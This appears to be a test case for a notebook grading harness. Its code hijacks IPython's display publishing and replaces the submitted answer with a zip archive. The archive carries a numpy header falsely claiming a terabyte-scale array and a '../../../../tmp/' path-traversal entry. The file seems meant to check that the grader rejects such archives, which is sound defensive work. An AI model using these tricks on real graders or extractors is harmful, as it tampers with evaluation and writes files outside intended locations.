# tries: an array whose own header claims a terabyte, under the right marker
# worth: global_average_pool 0 fail: archive
# %% global_average_pool
import base64
import io
import zipfile

import IPython.display

publish = IPython.display.publish_display_data


def lie(data, *arguments, **keywords):
    for kind in data:
        if kind.startswith("application/x-answer"):
            IPython.display.publish_display_data = publish
            member = io.BytesIO()
            np.save(member, np.zeros(1))
            claimed = member.getvalue().replace(b"(1,), }           ", b"(137438953472,), }")
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as archive:
                archive.writestr("header.npy", claimed)
                archive.writestr("../../../../tmp/" + MARK + ".npy", claimed)
            data[kind] = base64.b64encode(buffer.getvalue()).decode()
    publish(data, *arguments, **keywords)


IPython.display.publish_display_data = lie


def global_average_pool(x):
    return x.mean((1, 2))
